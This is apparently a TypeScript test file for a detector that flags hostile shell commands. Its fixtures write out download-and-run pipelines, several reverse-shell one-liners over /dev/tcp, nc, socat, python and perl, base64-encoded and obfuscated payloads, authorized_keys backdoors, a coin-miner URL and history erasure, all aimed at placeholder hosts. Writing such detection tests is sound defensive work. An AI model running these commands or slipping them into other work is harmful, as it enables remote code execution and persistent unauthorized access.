import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { processorClock } from '../../../tests/support/processor-time.ts';
import { decodeParts } from './decode.ts';
import { plainText } from './plain.ts';
import { programsIn } from './programs.ts';
import { shellCommands } from './shell-commands.ts';
import { contentSigns } from './signs.ts';

const saidOf = (text: string): string[] => contentSigns(text).map(({ what }) => what);

describe('what a text would run', () => {
  it.each([
    ['/usr/bin/a -x; b && /usr/bin/c | /opt/d', ['/usr/bin/a', 'b', '/usr/bin/c', '/opt/d']],
    ['X=1 nohup /tmp/x >/dev/null 2>&1 &', ['/tmp/x']],
    ['[ -x /usr/lib/u ] && /usr/lib/u # /not/this', ['/usr/lib/u', '[']],
    ['python3 /var/tmp/a.py --in /etc/b', ['python3', '/var/tmp/a.py']],
    ['sh -c "exec /opt/a; /opt/b"', ['sh', '/opt/a', '/opt/b']],
    ["echo '/not/run' \\\n/neither", ['echo']],
    ['x=$(/usr/bin/id)', ['/usr/bin/id']],
    ['if /usr/bin/a; then /usr/bin/b; fi', ['/usr/bin/a', '/usr/bin/b', 'fi']],
    ['. /etc/default/x', ['.', '/etc/default/x']],
  ])('%s', (text, programs) => {
    expect(programsIn(text).map(({ path }) => path)).toEqual(programs);
  });

  it('keeps count of lines, also through quotes and continued lines', () => {
    expect([...shellCommands('a "1\n2" \\\nb\n\nc')].map(({ words, line }) => [line, words])).toEqual([
      [1, ['a', '1\n2', 'b']],
      [5, ['c']],
    ]);
  });
});

describe('what a text says about itself', () => {
  it.each([
    ['curl -s http://x.example/a | bash', 'pipes a download into an interpreter'],
    ['wget -qO- x.example | tee /tmp/a | sudo sh', 'pipes a download into an interpreter'],
    ['bash <(curl -s http://x.example)', 'runs what it downloads'],
    ['python3 -c "$(curl x.example)"', 'runs what it downloads'],
    ['curl -o /tmp/a http://x.example; chmod +x /tmp/a; /tmp/a', 'runs what it downloads'],
    ['exec 5<>/dev/tcp/203.0.113.1/443', 'connects a shell through /dev/tcp'],
    ['nc -e /bin/sh 203.0.113.1 4444', 'gives a shell to a connection'],
    ['rm f; mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.1 1 > f', 'gives a shell to a connection'],
    ['socat tcp:203.0.113.1:1 exec:bash,pty', 'gives a shell to a connection'],
    ['python -c "import socket,pty; s=socket.socket(); pty.spawn(1)"', 'opens a connection and runs a shell over it'],
    ['perl -e \'use IO::Socket; exec "/bin/sh"\'', 'opens a connection and runs a shell over it'],
    ['echo aGk= | base64 -d | sh', 'runs what it decodes'],
    ['exec(base64.b64decode("aGk="))', 'runs what it decodes'],
    ['./m -o stratum+tcp://pool.example:3333', 'mines coins'],
    ['echo k >> /root/.ssh/authorized_keys', 'writes to a file that grants access'],
    ['chmod 4755 /tmp/sh', 'sets set-id bits or capabilities'],
    ['unset HISTFILE', 'covers its traces'],
    ['cu""rl http://x.example | s\\h', 'pipes a download into an interpreter'],
    ['curl${IFS}http://x.example|sh', 'pipes a download into an interpreter'],
    ["$'\\x63\\x75rl' http://x.example | sh", 'pipes a download into an interpreter'],
    ['/dev/shm/.x/a', 'runs what stands where anybody may write'],
    ['true #\r* * * * * id', 'hides text with control characters'],
  ])('%s', (text, what) => {
    expect(saidOf(text)).toContain(what);
  });

  it('looks into encodings, and into encodings in them', () => {
    const once = Buffer.from('curl http://x.example/a | sh').toString('base64');
    const twice = Buffer.from(`echo ${once} | base64 -d`).toString('base64');
    const packed = gzipSync('bash -i >& /dev/tcp/203.0.113.1/443 0>&1').toString('base64');
    const digits = Buffer.from('wget http://x.example/a -O- | bash').toString('hex');
    expect(saidOf(`x ${once}`)).toContain('pipes a download into an interpreter inside base64');
    expect(saidOf(`x ${twice}`)).toContain('hides commands as base64');
    expect(saidOf(`x ${packed}`)).toContain('connects a shell through /dev/tcp inside base64');
    expect(saidOf(`xxd -r -p <<< ${digits}`)).toContain('pipes a download into an interpreter inside hexadecimal');
  });

  it('is not lost behind a long beginning', () => {
    expect(saidOf(`${'# padding\n'.repeat(50_000)}curl http://x.example | sh`)).toContain(
      'pipes a download into an interpreter',
    );
  });

  it.each([
    'tar -C / -cf /srv/backup.tar etc && rm -f /tmp/backup.lock',
    'test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily',
    'export PS1="\\u@\\h:\\w\\$ "; umask 022',
    'find /tmp -mtime +7 -delete',
    'echo "see https://example.org/docs for help"',
  ])('nothing of: %s', (text) => {
    expect(contentSigns(text)).toEqual([]);
  });

  it('ends in time that grows with the text, whatever it is', () => {
    const pieces = [
      'curl ',
      '|',
      ' nc ',
      '"',
      '\\',
      '$(',
      'A'.repeat(5000),
      '/dev/tcp/',
      'socket',
      '\n',
      'base64 -d',
      '${IFS}',
      'rev',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 400 }), (parts) => {
        const takenMs = processorClock();
        contentSigns(parts.join(''));
        expect(takenMs()).toBeLessThan(4000);
      }),
      { numRuns: 10 },
    );
  });
});

it('only readable text is taken for encoded text', () => {
  expect([
    ...decodeParts(`id ${Buffer.from([1, 2, 3, 200, 255, 254, 7, 8, 9, 200, 1, 2, 3, 4, 5]).toString('base64')}`),
  ]).toEqual([]);
  expect([...decodeParts('sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')]).toEqual([]);
  expect(plainText('a\\\nb')).toBe('a b');
});
